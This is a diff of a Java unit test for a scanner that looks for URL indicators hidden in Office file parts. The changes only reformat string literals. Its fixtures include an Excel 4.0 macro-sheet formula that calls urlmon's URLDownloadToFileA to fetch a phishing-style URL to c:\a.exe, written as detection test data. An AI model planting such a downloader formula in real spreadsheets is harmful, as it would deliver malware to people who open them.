@@ -15,7 +15,8 @@ import org.junit.jupiter.params.provider.MethodSource;
 /** Where an indicator may stand in an Office file beside its visible text. */
 class OfficePartsTest {
     private static final String URL = "https://pay.quill-otter.net/login";
-    private static final String WORD = "<w:document xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main' xmlns:v='urn:schemas-microsoft-com:vml'"
+    private static final String WORD = "<w:document xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'"
+            + " xmlns:v='urn:schemas-microsoft-com:vml'"
             + " xmlns:r='http://schemas.openxmlformats.org/officeDocument/2006/relationships' xmlns:a='http://schemas.openxmlformats.org/drawingml/2006/main'>"
             + "<w:body>%s</w:body></w:document>";
 
@@ -100,7 +101,8 @@ class OfficePartsTest {
                 arguments("comment of a defined name", excel("xl/workbook.xml", "<workbook><definedNames><definedName name='u' comment='" + URL
                         + "'>1</definedName></definedNames></workbook>")),
                 arguments("joined name", excel("xl/workbook.xml",
-                        "<workbook><definedNames><definedName name='u'>\"https://pay.quill\"&amp;\"-otter.net/login\"</definedName></definedNames></workbook>")),
+                        "<workbook><definedNames><definedName"
+                        + " name='u'>\"https://pay.quill\"&amp;\"-otter.net/login\"</definedName></definedNames></workbook>")),
                 arguments("macro sheet", excel("xl/macrosheets/sheet1.xml", sheet("<c r='A1'><f>CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"" + URL
                         + "\",\"c:\\a.exe\")</f><v>0</v></c>", ""))),
                 arguments("macro sheet, joined", excel("xl/macrosheets/sheet1.xml",
